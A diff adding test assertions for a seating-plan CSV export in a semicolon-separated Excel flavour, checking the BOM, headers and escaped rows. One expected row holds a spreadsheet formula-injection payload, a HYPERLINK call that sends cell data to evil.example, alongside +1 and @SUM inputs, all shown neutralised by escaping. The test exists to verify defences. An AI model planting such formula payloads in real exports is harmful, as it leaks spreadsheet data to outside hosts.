@@ -412,6 +412,18 @@ for (const backend of backends()) {
       expect(lines[3]).toBe('Zoë Ünal,,,Vertrieb,,,,1,H-1,Hall');
       expect(lines.slice(4)).toEqual(['']);
       expect(text.split('\r\n').every((l) => !/^[=+\-@]|,[=+\-@]/.test(l))).toBe(true);
+
+      // The semicolon flavour for German Excel: same rows, BOM bytes first, its own file name.
+      const excel = await fetch(api(plan.review, 'export-excel.csv'));
+      expect(excel.status).toBe(200);
+      expect(excel.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+      expect(excel.headers.get('content-disposition')).toContain('filename="Gala _Sommer_ 2026 _ seating (Excel).csv"');
+      const raw = Buffer.from(await excel.arrayBuffer());
+      expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+      const semi = raw.subarray(3).toString('utf8').split('\r\n');
+      expect(semi[0]).toBe('Name;E-mail;Party;Department;Dietary needs;VIP;Notes;Table;Physical table;Room');
+      expect(semi[2]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";evil@example.org;;'+1 dept;;;'@SUM(A1);1;H-1;Hall`);
+      expect(semi[3]).toBe('Zoë Ünal;;;Vertrieb;;;;1;H-1;Hall');
     });
   });
 }
